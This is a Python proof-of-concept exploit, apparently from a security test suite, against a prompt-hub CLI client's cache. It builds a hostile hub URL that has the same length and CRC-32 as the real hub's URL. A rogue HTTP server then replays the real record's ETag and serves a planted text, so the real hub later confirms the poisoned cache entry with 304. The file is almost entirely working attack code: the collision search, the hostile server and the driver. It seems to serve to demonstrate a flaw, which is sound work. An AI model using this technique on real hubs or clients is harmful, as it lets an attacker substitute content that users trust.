"""Plants a text in the client's cache, through a hub whose URL has the CRC-32 of another hub's.

Reads a prompt with the client that the real hub (``hubctl serve``) gives out: from the hostile hub
first, then from the real one. The hostile hub sends the ETag of the real record, so that the real
hub confirms a planted record with 304.
"""

import argparse
import hashlib
import http.server
import itertools
import json
import os
import subprocess
import sys
import threading
import urllib.request
import zlib

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

from report import scratch_folder
from servers import free_port, started_server

CONTENT = os.path.join(os.path.dirname(sys.path[0]), "content")
PROMPT = "ines-caldeira/xss-code-review"
RECORD = f"/api/v1/repos/{PROMPT}.json"
PLANTED = b"Planted by another hub.\n"
LETTERS = "abcdefghijklmnopqrstuvwxyz0123456789"
HALVES_MAX = 2**18  # of a path: 2**36 pairs, of which some 16 collide
REVERSED = bytes(int(f"{byte:08b}"[::-1], 2) for byte in range(256))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--hubctl", default=f"{os.path.dirname(sys.executable)}/hubctl")
    hubctl = parser.parse_args().hubctl
    port = free_port()
    url = f"http://127.0.0.1:{port}/prompts-of-the-company"
    with scratch_folder(None) as folder:
        command = [
            hubctl, "serve", "--content", CONTENT, "--out", f"{folder}/site",
            "--state", f"{folder}/state", "--port", str(port), "--base-url", url,
        ]  # fmt: skip
        with started_server(command, port, None, {"PYTHONPATH": ""}):
            attack(url, folder)


def attack(url: str, folder: str) -> None:
    with urllib.request.urlopen(url + RECORD) as answer:
        Hostile.etag = answer.headers["ETag"]
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Hostile) as hostile:
        threading.Thread(target=hostile.serve_forever, daemon=True).start()
        hostile_url = colliding(url, f"http://127.0.0.1:{hostile.server_port}/")
        print(f"Same length and CRC-32: {url} and {hostile_url}")
        urllib.request.urlretrieve(f"{url}/cli/hub", f"{folder}/hub")
        for hub in (hostile_url, url):
            text = subprocess.run(
                ["sh", f"{folder}/hub", "cat", PROMPT], stdout=subprocess.PIPE, check=True,
                env={"PATH": os.environ["PATH"], "HOME": folder, "HUB_URL": hub},
            ).stdout  # fmt: skip
        hostile.shutdown()
    print(f"`hub cat` from the real hub prints {text[:60]!r}: planted {text == PLANTED}")


class Hostile(http.server.BaseHTTPRequestHandler):
    etag: str

    def do_GET(self) -> None:
        sha256 = hashlib.sha256(PLANTED).hexdigest()
        data = {"latest_version": "9.0.0", "sha256": sha256, "size": len(PLANTED)}
        record = json.dumps({"data": data}, separators=(",", ":")).encode()
        self.send_response(200)
        self.send_header("ETag", self.etag)
        self.end_headers()
        self.wfile.write(PLANTED if self.path.endswith(".txt") else record)

    def log_message(self, *_: object) -> None:
        """Prints no log."""


def colliding(url: str, base: str) -> str:
    """A URL below ``base`` that has the length and the CRC of another URL."""
    start = base.ljust(len(url) - 8, "a")
    halves = ["".join(four) for four in itertools.product(LETTERS, repeat=4)][:HALVES_MAX]
    firsts = {crc(f"{start}{half}aaaa"): half for half in halves}
    # a CRC is linear, so halves can be tried separately
    wanted = crc(url) ^ crc(f"{start}aaaaaaaa")
    for half in halves:
        if first := firsts.get(wanted ^ crc(f"{start}aaaa{half}")):
            return start + first + half
    raise SystemExit(f"found no collision with {url}")


def crc(url: str) -> int:
    """A number that is equal for URLs of one length if their CRC by POSIX cksum is."""
    return zlib.crc32(url.encode().translate(REVERSED))


if __name__ == "__main__":
    main()
